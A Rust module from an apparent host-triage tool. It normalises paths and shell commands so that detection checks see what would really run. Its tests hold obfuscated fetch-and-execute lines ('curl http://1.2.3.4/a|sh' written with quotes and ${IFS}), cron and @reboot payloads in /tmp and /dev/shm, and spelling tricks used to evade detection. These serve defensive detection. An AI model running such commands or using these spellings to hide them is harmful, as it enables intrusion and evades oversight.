//! One spelling for paths and commands read from a host's configuration, so that a check judges
//! what the system would run, not how the attacker chose to write it. `//tmp/x`, `/./tmp/x`,
//! `/usr/../tmp/x` and `/../dev/shm/x` all name `/tmp/x` or `/dev/shm/x` to the kernel;
//! `/t''mp/x`, `/t\mp/x` and `curl${IFS}-s` are the same words to a shell. Every check that
//! judges a path or a command goes through here (the triage indicators do it for them), so a
//! new spelling is handled in one place.

use std::borrow::Cow;

/// Lexically normalises an absolute path the way the kernel resolves it when no component is a
/// symlink: repeated slashes fold, `.` components vanish, `..` removes the component before it
/// and stops at the root. A trailing slash is kept (it marks a directory); a relative path or
/// text that is not a path is returned unchanged.
pub fn normalize_path(path: &str) -> Cow<'_, str> {
    if !path.starts_with('/') || !needs_path_normalizing(path) {
        return Cow::Borrowed(path);
    }
    let folded = fold_components(path);
    // `/proc/self/root/tmp/x` (or `/proc/1/root/…`) is `/tmp/x` seen through a process's root.
    match strip_proc_root(&folded) {
        Some(inner) => Cow::Owned(inner),
        None => Cow::Owned(folded),
    }
}

/// `/proc/PID|self|thread-self/root` prefixes removed, as often as they repeat.
fn strip_proc_root(path: &str) -> Option<String> {
    let mut rest = path;
    let mut stripped = false;
    while let Some(after) = rest.strip_prefix("/proc/") {
        let (who, tail) = after.split_once('/').unwrap_or((after, ""));
        let is_process = who == "self"
            || who == "thread-self"
            || (!who.is_empty() && who.bytes().all(|b| b.is_ascii_digit()));
        let Some(inner) = tail
            .strip_prefix("root")
            .filter(|t| t.is_empty() || t.starts_with('/'))
        else {
            break;
        };
        if !is_process {
            break;
        }
        rest = inner;
        stripped = true;
    }
    stripped.then(|| {
        if rest.is_empty() {
            "/".to_owned()
        } else {
            rest.to_owned()
        }
    })
}

fn fold_components(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            p => parts.push(p),
        }
    }
    let mut out = String::with_capacity(path.len());
    for p in &parts {
        out.push('/');
        out.push_str(p);
    }
    let trailing = path.ends_with('/') || path.ends_with("/.") || path.ends_with("/..");
    if out.is_empty() || trailing {
        out.push('/');
    }
    out
}

fn needs_path_normalizing(path: &str) -> bool {
    path.starts_with("/proc/")
        || path.contains("//")
        || path.contains("/./")
        || path.contains("/../")
        || path.ends_with("/.")
        || path.ends_with("/..")
}

/// Normalises a command line or config value before it is judged: shell quoting that does not
/// change a word is removed (`''`, `""`, quotes around part of a word, a backslash before an
/// ordinary character), `${IFS}` and `$IFS` become spaces, and every absolute path in it is
/// passed through [`normalize_path`]. A path starts at the beginning of a word or after `=`,
/// `:` (a `PATH`-like list, but not a URL's `scheme://`), a redirection or another shell
/// operator. The result is for matching only: report the original text.
pub fn normalize_command(command: &str) -> Cow<'_, str> {
    if !command.contains(['/', '\'', '"', '\\', '$']) {
        return Cow::Borrowed(command);
    }
    let unquoted = unquote(command);
    let paths = normalize_paths_in(&unquoted);
    if paths == command {
        Cow::Borrowed(command)
    } else {
        Cow::Owned(paths.into_owned())
    }
}

/// Removes quoting that only joins characters into one word, the way a shell reads it: the
/// quote characters go, what they held stays, and `$'…'` escapes are decoded. `${IFS}`/`$IFS` (a field separator attackers use
/// instead of spaces) become a space.
fn unquote(text: &str) -> Cow<'_, str> {
    if !text.contains(['\'', '"', '\\'])
        && !text.contains("$IFS")
        && !text.contains("${IFS}")
        && !text.contains("TMPDIR")
    {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some('\''), c) => out.push(c),
            (None, '\'' | '"') => quote = Some(c),
            (None | Some('"'), '\\') => match chars.next() {
                // A backslash-newline joins lines; any other escaped character is itself.
                Some('\n') => {}
                Some(next) => out.push(next),
                None => out.push('\\'),
            },
            (_, '$') if var_follows(&mut chars, "IFS") => out.push(' '),
            // `$TMPDIR` is where temp files go: `/tmp` unless the job set it, and a job that
            // runs from it is judged as running from a temp dir.
            (_, '$') if var_follows(&mut chars, "TMPDIR") => out.push_str("/tmp"),
            (None, '$') if chars.peek() == Some(&'\'') => {
                chars.next();
                ansi_c(&mut chars, &mut out);
            }
            (_, c) => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// The body of bash's `$'…'` quoting, up to its closing quote: `\xHH`, `\NNN` (octal), `\n`,
/// `\t` and the like decoded (`$'\x2ftmp\x2fx'` is `/tmp/x`). Decoded control characters are
/// kept as they are; a NUL ends the word, as in bash.
fn ansi_c(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, out: &mut String) {
    let mut ended = false;
    while let Some(c) = chars.next() {
        if c == '\'' {
            return;
        }
        if c != '\\' {
            if !ended {
                out.push(c);
            }
            continue;
        }
        let decoded = match chars.next() {
            Some('x') => {
                let hex: String = std::iter::from_fn(|| chars.next_if(char::is_ascii_hexdigit))
                    .take(2)
                    .collect();
                u8::from_str_radix(&hex, 16).ok().map(char::from)
            }
            Some(d @ '0'..='7') => {
                let mut oct = String::from(d);
                oct.extend(
                    std::iter::from_fn(|| chars.next_if(|c| ('0'..='7').contains(c))).take(2),
                );
                u8::from_str_radix(&oct, 8).ok().map(char::from)
            }
            Some('n') => Some('\n'),
            Some('t') => Some('\t'),
            Some('r') => Some('\r'),
            Some(other) => Some(other),
            None => None,
        };
        match decoded {
            Some('\0') => ended = true,
            Some(ch) if !ended => out.push(ch),
            _ => {}
        }
    }
}

/// After a `$`: consumes `NAME` or `{NAME}` (not followed by more of a name) and says whether
/// it did.
fn var_follows(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, name: &str) -> bool {
    let rest: String = chars.clone().take(name.len() + 3).collect();
    let n = if rest.starts_with(&format!("{{{name}}}")) {
        name.len() + 2
    } else if rest.starts_with(name)
        && !rest[name.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '_')
    {
        name.len()
    } else {
        return false;
    };
    for _ in 0..n {
        chars.next();
    }
    true
}

/// Characters after which a `/` starts a path.
fn starts_path_after(prev: char) -> bool {
    prev.is_whitespace() || matches!(prev, '=' | '>' | '<' | '(' | '`' | ';' | '|' | '&' | ',')
}

/// Characters that end a path inside a command.
fn ends_path(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            ';' | '|' | '&' | ')' | '<' | '>' | '`' | ':' | ',' | '\'' | '"'
        )
}

fn normalize_paths_in(text: &str) -> Cow<'_, str> {
    if !text.contains("//") && !text.contains("/.") && !text.contains("/proc/") {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut prev: Option<char> = None;
    while let Some(c) = rest.chars().next() {
        let begins = c == '/'
            && match prev {
                None => true,
                Some(':') => !(rest.starts_with("//") && after_url_scheme(&out)),
                Some(p) => starts_path_after(p),
            };
        if begins {
            let end = rest.find(ends_path).unwrap_or(rest.len());
            let (path, tail) = rest.split_at(end);
            out.push_str(&normalize_path(path));
            prev = path.chars().last();
            rest = tail;
        } else {
            out.push(c);
            prev = Some(c);
            rest = &rest[c.len_utf8()..];
        }
    }
    Cow::Owned(out)
}

/// True when the text written so far ends in `scheme:` (letters, digits, `+.-`, starting with a
/// letter, at the start of a word): what follows is a URL's `//host`, not a path.
fn after_url_scheme(written: &str) -> bool {
    let Some(before_colon) = written.strip_suffix(':') else {
        return false;
    };
    let is_scheme_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-');
    let scheme_start = before_colon
        .char_indices()
        .rev()
        .take_while(|(_, c)| is_scheme_char(*c))
        .last()
        .map(|(i, _)| i);
    let Some(start) = scheme_start else {
        return false;
    };
    // `/usr/bin:` is a path list entry, not a scheme.
    before_colon[start..].starts_with(|c: char| c.is_ascii_alphabetic())
        && !before_colon[..start].ends_with('/')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_fold_to_what_the_kernel_opens() {
        for (spelled, meant) in [
            ("//tmp/x.sh", "/tmp/x.sh"),
            ("/./tmp/x.sh", "/tmp/x.sh"),
            ("/usr/../tmp/x.sh", "/tmp/x.sh"),
            ("/../dev/shm/x", "/dev/shm/x"),
            ("/tmp//.x/./y", "/tmp/.x/y"),
            ("/var/tmp/", "/var/tmp/"),
            ("/tmp/a/..", "/tmp/"),
            ("/..", "/"),
            ("/", "/"),
            ("/proc/self/root/tmp/x.sh", "/tmp/x.sh"),
            ("/proc/1/root/proc/self/root//dev/shm/k", "/dev/shm/k"),
            ("/proc/self/cwd/x", "/proc/self/cwd/x"),
            ("/proc/sys/kernel", "/proc/sys/kernel"),
            ("/usr/bin/sshd", "/usr/bin/sshd"),
            ("relative/../x", "relative/../x"),
        ] {
            assert_eq!(normalize_path(spelled), meant, "{spelled}");
        }
    }

    #[test]
    fn commands_are_read_as_a_shell_reads_them() {
        for (spelled, meant) in [
            ("* * * * * root //tmp/x.sh", "* * * * * root /tmp/x.sh"),
            ("* * * * * root /./tmp/x.sh", "* * * * * root /tmp/x.sh"),
            (
                "@reboot /usr/../tmp/x.sh >/dev/null",
                "@reboot /tmp/x.sh >/dev/null",
            ),
            ("ExecStart=/../dev/shm/x", "ExecStart=/dev/shm/x"),
            ("PATH=/usr/bin:/./tmp", "PATH=/usr/bin:/tmp"),
            ("/t''mp/x", "/tmp/x"),
            ("/t\\mp/\"x\"", "/tmp/x"),
            (
                "cu''rl${IFS}http://1.2.3.4/a|s\\h",
                "curl http://1.2.3.4/a|sh",
            ),
            ("x=1;//tmp/a&&//tmp/b", "x=1;/tmp/a&&/tmp/b"),
            ("$'\\x2ftmp\\x2fx' &", "/tmp/x &"),
            ("$'\\057dev\\057shm/k'", "/dev/shm/k"),
            ("@reboot /proc/self/root/tmp/.k/x", "@reboot /tmp/.k/x"),
            ("$TMPDIR/.x/run &", "/tmp/.x/run &"),
            ("${TMPDIR}/a $TMPDIRX", "/tmp/a $TMPDIRX"),
        ] {
            assert_eq!(normalize_command(spelled), meant, "{spelled}");
        }
        // A URL's `//` is not a path's.
        assert_eq!(
            normalize_command("curl https://1.2.3.4/x | sh"),
            "curl https://1.2.3.4/x | sh"
        );
        assert!(matches!(normalize_command("ls -la"), Cow::Borrowed(_)));
    }
}
